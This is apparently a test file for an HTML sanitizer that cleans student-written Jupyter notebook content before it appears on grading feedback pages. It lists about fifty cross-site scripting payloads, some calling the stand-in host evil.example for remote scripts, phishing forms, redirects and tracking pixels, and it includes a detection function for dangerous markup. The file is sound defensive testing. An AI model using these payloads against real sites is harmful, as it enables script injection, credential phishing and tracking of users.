"""Whatever a student writes or shows: on a page it does nothing."""

from __future__ import annotations

import base64
import re
from html.parser import HTMLParser

import pytest
from nbconvert.exporters import HTMLExporter
from nbformat import v4
from nbgrader.server_extensions.formgrader.handlers import template_path
from traitlets.config import Config

from course_lib import exercises
from course_lib.checking.checker import check_function
from grading.feedback import Page, render
from grading.safe_html import Harmless, clean, configure

RAN = "document.title='ran'"
FRAME = base64.b64encode(f"<script>parent.{RAN}</script>".encode()).decode()
PAYLOADS = [
    f"<script>{RAN}</script>",
    f"<SCRIPT\n>{RAN}</SCRIPT >",
    f"<scr<script>ipt>{RAN}</scr</script>ipt>",
    "<script src=https://evil.example/x.js></script>",
    f"<img src=x onerror={RAN}>",
    f"<img src=x onerror\n=\n{RAN}>",
    f'<img src="data:image/png;base64,iVBORw0KGgo=" onload="{RAN}" alt=a>',
    f"<svg onload={RAN}>",
    f"<svg><script>{RAN}</script></svg>",
    f'<svg><a xlink:href="javascript:{RAN}"><text>click</text></a></svg>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={RAN}>",
    f'<noscript><p title="</noscript><img src=x onerror={RAN}>">',
    f"<body onload={RAN}>",
    f"<details open ontoggle={RAN}>x</details>",
    f"<video><source onerror={RAN}></video>",
    f"<audio src=x onerror={RAN}></audio>",
    f"<input autofocus onfocus={RAN}>",
    f"<select autofocus onfocus={RAN}></select>",
    f"<marquee onstart={RAN}>x</marquee>",
    f'<a href="javascript:{RAN}">x</a>',
    f'<a href=" &#106;avascript:{RAN}">x</a>',
    f'<a href="java\tscript:{RAN}">x</a>',
    f'<a href="data:text/html;base64,{FRAME}">x</a>',
    f'<a href="vbscript:{RAN}">x</a>',
    f'<iframe src="javascript:parent.{RAN}"></iframe>',
    f'<iframe srcdoc="<script>parent.{RAN}</script>"></iframe>',
    f'<object data="data:text/html;base64,{FRAME}"></object>',
    f'<embed src="data:text/html;base64,{FRAME}">',
    '<form action="https://evil.example"><button>log in again</button></form>',
    f'<form><button formaction="javascript:{RAN}">x</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body { display: none }</style>",
    '<img src="https://evil.example/seen.png" alt=a>',
    '<img src="//evil.example/seen.png" alt=a>',
    '<img srcset="https://evil.example/seen.png 2x" src="a.png" alt=a>',
    '<img src="\\\\evil.example\\seen.png" alt=a>',
    '<div style="background:url(https://evil.example/seen.png)">x</div>',
    '<div style="background: u\\72l(https://evil.example/seen.png)">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="position:fixed;top:0;left:0;width:100%">20 of 20 points</div>',
    '<div style="margin-top:-500px">20 of 20 points</div>',
    '<img id="MathJax" name="MathJax" src="a.png" alt=a>',
    f'<script type="text/x-mathjax-config">{RAN}</script>',
    f'<p class="x" id="x" onclick="{RAN}" tabindex=1>x</p>',
    f"<a href=x style=animation-name:x onanimationstart={RAN}>x</a>",
    f"]]><img src=x onerror={RAN}>",
    f"<!--><img src=x onerror={RAN}>-->",
    f"<template><img src=x onerror={RAN}></template>",
    f"<title><img src=x onerror={RAN}></title>",
    f"<textarea><img src=x onerror={RAN}></textarea>",
]
HARMLESS = "a abbr b blockquote br caption center code col colgroup dd del details div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre s samp small span strong sub summary sup table tbody td tfoot th thead tr tt u ul var"
PAGE = "html head body main meta title style script"


class Found(HTMLParser):
    """Tags and attributes as a parser of HTML sees them."""

    def __init__(self, text):
        super().__init__()
        self.tags, self.attributes, self.scripts = set(), [], []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]
        if tag == "script":
            self.scripts.append(dict(attrs))


def harm(text, page=False):
    """What could do harm in a piece of HTML, or in a page."""
    found = Found(text)
    tags = found.tags - set(HARMLESS.split()) - (set(PAGE.split()) if page else set())
    problems = [f"<{tag}>" for tag in tags]
    for tag, name, value in found.attributes:
        plain = re.sub(r"[\s\x00-\x20]", "", value).lower()
        ours = (tag, name, value) == ("meta", "http-equiv", "Content-Security-Policy")
        if not ours and (name.startswith("on") or name in ("srcdoc", "srcset", "formaction", "action", "http-equiv")):
            problems.append(f"{tag} {name}={value}")
        if plain.startswith(("javascript:", "vbscript:", "data:text")) or (
            tag in ("img", "a") and "base64" in plain and tag == "a"
        ):
            problems.append(f"{tag} {name}={value}")
        if tag == "img" and name == "src" and re.match(r"(https?:)?[/\\]{2}", plain):
            problems.append(f"{tag} {name}={value}")
        if name in ("id", "name") and tag not in ("h1", "h2", "h3", "h4", "h5", "h6") and not page:
            problems.append(f"{tag} {name}={value}")
        if name == "style" and re.search(r"url|expression|position|\\|:-", plain):
            problems.append(f"{tag} {name}={value}")
    allowed = ("https://cdnjs.cloudflare.com/ajax/libs/mathjax/",)
    for script in found.scripts if page else []:
        source, kind = script.get("src", ""), script.get("type", "")
        if not source.startswith(allowed) and kind != "text/x-mathjax-config":
            problems.append(f"script {script}")
    return problems


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_harmful_is_left(payload):
    assert harm(payload) or payload.startswith("<!-->"), "the test itself would not see it"
    assert harm(clean(payload)) == []
    assert clean(clean(payload)) == clean(payload)


def notebook():
    """Every payload in every place that a student can write to."""
    cells = []
    for number, payload in enumerate(PAYLOADS):
        answer = v4.new_markdown_cell(
            payload + f"\n\n[x](javascript:{RAN}) ![x](https://evil.example/a.png) ![x](attachment:a.png)",
            id=f"m{number}",
        )
        answer.attachments = {"a.png": {f'image/png" onerror="{RAN}': "aGVsbG8="}}
        answer.metadata.nbgrader = {
            "grade": True,
            "solution": True,
            "grade_id": f"m{number}",
            "points": 1,
            "schema_version": 3,
            "locked": False,
            "task": False,
        }
        outputs = [
            v4.new_output("display_data", {kind: payload, "text/plain": payload})
            for kind in (
                "text/html",
                "text/markdown",
                "text/latex",
                "image/svg+xml",
                "image/png",
                "application/javascript",
                "text/vnd.mermaid",
                "application/pdf",
            )
        ]
        outputs.append(
            v4.new_output("display_data", {"text/html": payload}, metadata={"text/html": {"isolated": True}})
        )
        outputs.append(
            v4.new_output(
                "display_data",
                {
                    "application/vnd.jupyter.widget-view+json": {"model_id": payload, "version_major": 2},
                    "text/plain": "w",
                },
            )
        )
        evil = {
            "width": f"1 onload={RAN}",
            "height": payload,
            "alt": payload,
            "filenames": {"image/png": "https://evil.example/a.png"},
        }
        metadata = {"image/png": evil, "filenames": {"image/png": "https://evil.example/a.png"}}
        outputs.append(v4.new_output("display_data", {"image/png": "iVBORw0KGgo="}, metadata=metadata))
        outputs += [
            v4.new_output("stream", text=payload),
            v4.new_output("error", ename=payload, evalue=payload, traceback=[payload]),
        ]
        cell = v4.new_code_cell(
            payload, outputs=outputs, id=f"c{number}", metadata={"tags": [payload.replace(",", "")]}
        )
        raw = v4.new_raw_cell(payload, id=f"r{number}", metadata={"raw_mimetype": "text/html"})
        cells += [answer, cell, raw]
    state = {"application/vnd.jupyter.widget-state+json": {"state": {"</script><script>": 1}}}
    return v4.new_notebook(
        cells=cells, metadata={"title": PAYLOADS[0], "widgets": state, "language_info": {"name": "python"}}
    )


@pytest.fixture(scope="module")
def page():
    made = notebook()
    ids = [f"m{number}" for number in range(len(PAYLOADS))]
    scores = dict.fromkeys(ids, (1.0, 1.0))
    return render(Page("l01", v4.writes(made), scores, dict(zip(ids, PAYLOADS, strict=True)), (1.0, 2.0, 0.0)))


def test_a_feedback_page_has_no_harm_in_it(page):
    assert harm(page, page=True) == []
    fetched = [value for _, name, value in Found(page).attributes if name not in ("alt", "title")]
    assert [
        value for value in fetched if "evil.example" in value and not value.startswith("data:image/png;base64,")
    ] == []


def test_formgraders_page_has_no_harm_in_it():
    """It makes its pages with an exporter of its own, which takes our settings; what is on an empty page is formgrader's own."""
    config = Config()
    configure(config)
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [template_path]
    exporter = HTMLExporter(config=config)
    about = dict.fromkeys(
        ("assignment_id", "notebook_id", "submission_id", "base_url", "student", "notebook_path"), "x"
    )
    resources = {**about, "index": 0, "total": 1, "last_name": "x", "first_name": "x"}

    def page_of(made):
        return harm(exporter.from_notebook_node(made, dict(resources))[0], page=True)

    empty = notebook()
    for cell in empty.cells:
        cell.source, cell.outputs = "x", []
        cell.pop("attachments", None)
        if cell.cell_type != "code":
            del cell["outputs"]
    assert set(page_of(notebook())) <= set(page_of(empty))


@pytest.mark.browser
def test_nothing_runs_in_a_browser(page, tmp_path):
    playwright = pytest.importorskip("playwright.sync_api")
    path = tmp_path / "page.html"
    with playwright.sync_playwright() as running:
        browser = running.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox"])
        try:
            for policy in (True, False):  # without the page's own wall as well: the cleaning has to hold alone
                text = page if policy else re.sub(r"<meta[^>]*Content-Security-Policy[^>]*>", "", page)
                assert ("Content-Security-Policy" in text) is policy
                path.write_text(text, encoding="utf-8")
                opened, asked, dialogs = browser.new_page(), [], []
                opened.on("request", lambda request, asked=asked: asked.append(request.url))
                opened.on("dialog", lambda dialog, dialogs=dialogs: (dialogs.append(dialog.message), dialog.dismiss()))
                opened.route(re.compile("^https?:"), lambda route: route.abort())
                opened.goto(path.as_uri(), wait_until="load")
                opened.wait_for_timeout(500)
                for link in opened.query_selector_all("a")[:40]:
                    assert not (link.get_attribute("href") or "").lower().startswith(("javascript", "data"))
                assert opened.title() != "ran" and dialogs == []
                assert [url for url in asked if "evil.example" in url] == []
                assert (
                    opened.evaluate(
                        "document.querySelectorAll('iframe, object, embed, form, input, button, svg').length"
                    )
                    == 0
                )
                opened.close()
        finally:
            browser.close()


# --- what has to survive ---------------------------------------------------------------------------------------------


def attributes_of(html):
    return sorted(Found(html).attributes)


def test_our_cards_survive_as_they_are():
    verdict = check_function(exercises.find("l02.sigmoid_backward"), lambda dy, y: dy)
    assert same_styles(verdict.to_html()) and "role" in {name for _, name, _ in attributes_of(clean(verdict.to_html()))}


def same_styles(html):
    """Spaces aside."""

    def plain(text):
        return [(tag, name, re.sub(r"[\s;]", "", value)) for tag, name, value in Found(text).attributes]

    return plain(clean(html)) == plain(html)


@pytest.mark.parametrize(
    "html",
    [
        '<img alt="A line" src="data:image/png;base64,iVBORw0KGgo=" width="3" height="4" style="max-width: 100%; height: auto;">',
        '<img alt="a red square" src="square.png">',
        '<table border="1" class="dataframe"><tbody><tr><td style="text-align: left; color: rgb(0, 114, 178);">1</td></tr></tbody></table>',
        '<a href="https://arxiv.org/abs/1412.6980" title="Adam">x</a> <a href="#The-end">y</a> <a href="../../README.md">z</a>',
        "<details><summary>more</summary>text</details>",
        '<h2 id="The-end">The end</h2>',
        '<div class="highlight hl-python"><pre><span class="k">def</span> <span class="nf">f</span></pre></div>',
        "$a &lt; b$",
    ],
)
def test_what_is_harmless_stays(html):
    assert clean(html) == html or same_styles(html)
    assert Found(clean(html)).tags == Found(html).tags


def test_a_data_frame_shows_no_style_as_text():
    assert clean("<style scoped>.x { color: red }</style><table><tbody><tr><td>1</td></tr></tbody></table>").startswith(
        "<table>"
    )


def test_pictures_cards_and_comments_are_on_the_page():
    picture = '<img alt="A line" src="data:image/png;base64,iVBORw0KGgo=">'
    output = v4.new_output(
        "display_data",
        {"text/html": picture, "text/plain": "A line", "application/vnd.jupyter.widget-view+json": {"model_id": "1"}},
    )
    cell = v4.new_code_cell(
        "1",
        outputs=[
            output,
            v4.new_output("display_data", {"image/png": "aGVsbG8="}, metadata={"image/png": {"width": 30}}),
        ],
        id="a",
    )
    cell.metadata.nbgrader = {
        "grade": True,
        "solution": True,
        "grade_id": "a",
        "points": 2,
        "schema_version": 3,
        "locked": False,
        "task": False,
    }
    text = v4.new_markdown_cell("# Title\n\n$a<b$ and `x < y`\n\n```python\nx = 1\n```", id="b")
    made = v4.new_notebook(cells=[cell, text], metadata={"language_info": {"name": "python"}})
    html = render(Page("l01", v4.writes(made), {"a": (1.5, 2.0)}, {"a": "Well **done**"}, (1.5, 2.0, 0.0)))
    assert re.search(
        r'<img[^>]*alt="A line"[^>]*src="data:image/png;base64,iVBORw0KGgo="|<img[^>]*src="data:image/png;base64,iVBORw0KGgo="[^>]*alt="A line"',
        html,
    )
    assert "data:image/png;base64,aGVsbG8=" in html and "Score: 1.5 / 2.0" in html
    assert "<strong>done</strong>" in html and "$a&lt;b$" in html and "Content-Security-Policy" in html
    assert not re.search("widget", "".join(Found(html).tags))


def test_the_step_is_on_without_being_asked():
    assert Harmless().enabled
